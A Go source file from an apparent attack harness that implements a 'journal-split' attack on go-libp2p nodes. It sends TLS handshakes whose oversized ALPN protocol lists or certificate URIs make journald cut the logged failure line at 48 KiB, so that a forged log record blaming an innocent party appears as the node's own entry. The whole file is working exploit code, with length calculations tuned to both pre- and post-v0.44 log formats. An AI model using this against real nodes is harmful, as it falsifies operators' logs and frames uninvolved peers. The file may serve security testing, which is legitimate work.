package attack

import (
	"context"
	"crypto/tls"
	"net/netip"
	"reflect"
	"runtime"
	"strings"
	"time"

	libp2ptls "github.com/libp2p/go-libp2p/p2p/security/tls"
)

// lineMax is where systemd-journald cuts the lines it reads of a service's
// output (LineMax= of journald.conf(5), 48K by default).
const lineMax = 48 << 10

func journalSplit() Attack {
	return Attack{
		Name: "journal-split",
		Doc: "Makes go-libp2p print a handshake_failure=tls line so long that journald cuts it at 48 KiB, just " +
			"before a forged record that accuses the innocent: the rest becomes an entry that begins like the " +
			"node's own. In turn by a list of application protocols, whose entry ends in their remains, and by " +
			"a certificate's URI, whose entry is a whole record from its first byte to its last; and in turn " +
			"for the lines of go-libp2p since v0.44 and those before. The sender must know how long the line is " +
			"before its text, and so the path a node since v0.44 was built under; it takes the one it was built " +
			"under itself. One in a hundred is printed.",
		Run: func(ctx context.Context, p Params, each func(Attempt)) error {
			f, err := newForger(p)
			if err != nil {
				return err
			}
			targets, err := pick(p, overTCP)
			if err != nil {
				return err
			}
			return pace(ctx, p, targets, each, func(ctx context.Context, t target, n int, a *Attempt) error {
				return spoilTLS(ctx, t, a, func(local netip.AddrPort) (*tls.Config, error) {
					before := lineSince44
					if n/2%2 == 1 {
						before = lineUntil43
					}
					if n%2 == 1 {
						return withURI(f.splitURI(before(local) + errURI))
					}
					return clientConfig(f.splitProtocols(before(local) + errALPN)), nil
				})
			})
		},
	}
}

// What stands in err= before the sender's own text.
const (
	errALPN = `"tls: client requested unsupported application protocols ([\"`
	errURI  = `"tls: failed to parse client certificate: x509: cannot parse URI \"`
)

// lineSince44 is what go-libp2p since v0.44 prints before the text of err= when
// a TLS handshake of that host fails.
func lineSince44(host netip.AddrPort) string {
	// The file of the method that prints it; its line has two digits.
	method := reflect.ValueOf((*libp2ptls.Transport).SecureInbound).Pointer()
	file, _ := runtime.FuncForPC(method).FileLine(method)
	return time.Now().Format("time=2006-01-02T15:04:05.000Z07:00") + " level=INFO source=" + file +
		`:96 msg=CANONICAL_PEER_STATUS peer="" addr=` + tcpAddr(host) +
		" sample_rate=100 handshake_failure=tls err="
}

// lineUntil43 is the same on the console of go-libp2p up to v0.43.
func lineUntil43(host netip.AddrPort) string {
	return time.Now().Format("2006-01-02T15:04:05.000Z0700") +
		"\tINFO\tcanonical-log\ttls/transport.go:96\tCANONICAL_PEER_STATUS: peer= addr=" + tcpAddr(host) +
		` sample_rate=100 handshake_failure="tls" err=`
}

// splitProtocols gives names of protocols that, printed behind before, have a
// forged record begin where the line is cut.
func (f forger) splitProtocols(before string) (names []string) {
	const between = len(`\" \"`) // as printed
	missing := lineMax - len(before)
	for ; missing >= maxProtocol+between; missing -= maxProtocol + between {
		names = append(names, strings.Repeat("a", maxProtocol))
	}
	if missing > between {
		names = append(names, strings.Repeat("a", missing-between))
		missing = 0
	}
	return append(names, strings.Repeat("a", missing)+f.slog(time.Now(), forgedSource))
}

// splitURI gives a URI that, printed behind before, has a forged record begin
// where the line is cut and end where it is cut again.
func (f forger) splitURI(before string) string {
	now := time.Now()
	missing := lineMax - len(f.slog(now, forgedSource))
	return strings.Repeat("a", lineMax-len(before)) + f.slog(now, strings.Repeat("x", missing)+forgedSource) + unparsable
}
